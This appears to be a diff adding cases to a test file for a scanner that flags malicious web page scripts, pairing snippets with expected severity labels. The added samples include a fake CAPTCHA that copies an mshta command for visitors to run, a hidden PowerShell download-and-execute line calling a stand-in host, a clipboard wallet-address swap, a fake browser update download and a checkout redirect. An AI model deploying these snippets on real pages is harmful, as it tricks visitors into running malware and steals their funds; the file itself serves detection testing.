@@ -105,6 +105,42 @@ const cases: Record<string, [string, string[]]> = {
     `var p = new RTCPeerConnection(), c = p.createDataChannel('a'), t = ''; p.setRemoteDescription({ type: 'answer', sdp: 'v=0' }); c.onmessage = function (e) { if (e.data) t += e.data; else eval(t) }`,
     ['high remote-code'],
   ],
+  'a command that visitors shall run': [
+    `document.body.innerHTML = '<button id="v">I am not a robot</button><p>Press Win + R, then Ctrl + V</p>'; document.getElementById('v').onclick = function () { navigator.clipboard.writeText('mshta https://x.example/v.hta') }`,
+    ['high decoded-attack'],
+  ],
+  'the same by a text field': [
+    `document.querySelector('button').addEventListener('click', function () { var t = document.createElement('textarea'); t.value = 'powershell -w hidden -c "iwr x.example | iex"'; document.body.appendChild(t); t.select(); document.execCommand('copy') })`,
+    ['medium decoded-attack'],
+  ],
+  'a wallet address swapped': [
+    `document.addEventListener('copy', function (e) { if (/^0x[0-9a-f]{40}$/i.test(getSelection().toString())) { e.clipboardData.setData('text/plain', '0x000000000000000000000000000000000000dEaD'); e.preventDefault() } })`,
+    ['high wallet-drain'],
+  ],
+  'a copy with its source': [
+    `document.addEventListener('copy', function (e) { e.clipboardData.setData('text/plain', getSelection() + ' (from ' + location.href + ')'); e.preventDefault() })`,
+    [],
+  ],
+  'an update of the browser offered': [
+    `document.write('<h1>Update Chrome</h1><p>You are using an older version of Chrome.</p><a href="https://x.example/Chrome.Update.zip" download>Update Chrome</a>')`,
+    ['high page-covered'],
+  ],
+  'a notice for old browsers': [
+    `document.write('<p>Your browser is out of date. <a href="https://browsers.example/get">Update your browser</a></p>')`,
+    [],
+  ],
+  'links that nobody sees': [
+    `document.write('<div style="position:absolute;left:-9999px"><a href="https://a.example/">a</a><a href="https://b.example/">b</a></div>')`,
+    ['medium hidden-content-written'],
+  ],
+  'a link for screen readers': [
+    `document.write('<a style="position:absolute;left:-9999px" href="#main">Skip</a>')`,
+    ['low hidden-content-written'],
+  ],
+  'the way to the checkout turned': [
+    `document.querySelector('a[href*="/checkout"]').addEventListener('click', function (e) { e.preventDefault(); location.href = 'https://x.example/pay' })`,
+    ['medium visitor-sent-away'],
+  ],
   'an answer that is run': [loader, ['medium remote-code']],
   'an answer that is run for visitors from search engines': [
     `if (document.referrer.indexOf('google') > 0) { ${loader} }`,
